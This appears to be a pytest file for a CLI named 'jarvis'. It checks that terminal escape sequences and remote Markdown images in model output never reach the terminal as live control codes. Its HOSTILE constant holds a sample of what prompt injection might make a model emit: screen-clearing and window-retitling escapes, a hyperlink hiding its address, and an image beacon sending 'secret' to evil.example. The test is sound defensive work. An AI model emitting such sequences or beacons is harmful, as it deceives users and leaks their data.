"""Model output reaches a terminal as text (issue 13): the real CLI in a child process, the scripted
LLM server answering with escape sequences, and a loopback Gradio Space echoing them back as a task's
output. Nothing in jarvis is patched; the test reads the bytes the CLI wrote."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.fakes.gradio_space import LoopbackSpace
from tests.fakes.llm_server import ScriptedLLM
from tests.helpers import plan_json

pytestmark = pytest.mark.timeout(180)
ROOT = Path(__file__).resolve().parent.parent
ECHO = "spaces/loopback/echo"
# what a prompt injection might make a model write: clear the screen, retitle the window, a hyperlink
# whose text hides its address, a C1 control sequence, a reset, and a Markdown image that a pipe into
# a Markdown viewer would load
HOSTILE = ("\x1b[2J\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b]8;;https://evil.example/x\x1b\\click me\x1b]8;;\x1b\\ "
           "\x9b2J ![beacon](https://evil.example/p.png?c=secret) \x1bc end")
RAW = ("\x1b", "\x9b", "\x07", "![beacon]", "](https://evil.example")


def run_cli(tmp_path: Path, llm: ScriptedLLM, space: LoopbackSpace, *args: str) -> subprocess.CompletedProcess:
    tmp_path.mkdir(parents=True)
    catalog = tmp_path / "catalog.jsonl"
    catalog.write_text(json.dumps({"id": ECHO, "task": "summarization", "space": space.url, "api_name": "/echo",
                                   "description": "repeats the text"}) + "\n", encoding="utf-8")
    env = {**os.environ, "OPENAI_BASE_URL": llm.url, "OPENAI_API_KEY": "sk-test", "JARVIS_CATALOG": str(catalog),
           "JARVIS_INFERENCE_MODE": "remote", "HF_HUB_OFFLINE": "1", "NO_COLOR": "1"}
    return subprocess.run([sys.executable, "-m", "jarvis", "run", "summarize it", "--out", str(tmp_path / "out"),
                           *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=150)


def test_escape_sequences_and_remote_images_from_models_never_reach_the_terminal(tmp_path):
    # the answer streams in chunks that cut the sequences and the image in two
    chunks = [HOSTILE[i:i + 7] for i in range(0, len(HOSTILE), 7)]
    plan = plan_json(("summarization", {"text": HOSTILE}))
    with LoopbackSpace() as space, ScriptedLLM(plan=plan, answer=chunks) as llm:
        shown = run_cli(tmp_path / "text", llm, space)
        record = run_cli(tmp_path / "json", llm, space, "--json")
        assert space.calls and space.calls[0] == ("echo", (HOSTILE,))    # the task's output carries them all
    assert shown.returncode == 0, shown.stderr
    for raw in RAW:
        assert raw not in shown.stdout and raw not in shown.stderr, raw
    # what the person sees: the words, the image as its address, nothing hidden
    answer = shown.stdout.strip()
    assert answer.startswith("red ") and "click me" in answer and answer.endswith(" end")
    assert "[image: beacon] (https://evil.example/p.png?c=secret)" in answer
    assert "done: task 0" in shown.stderr and "text=red " in shown.stderr      # the echoed output, made text
    # --json keeps every character, as escapes a terminal does not obey
    assert record.returncode == 0, record.stderr
    assert "\x1b" not in record.stdout and "\x9b" not in record.stdout and "\\u009b" in record.stdout
    data = json.loads(record.stdout)
    assert data["tasks"][0]["outputs"]["text"] == HOSTILE and data["answer"] == HOSTILE
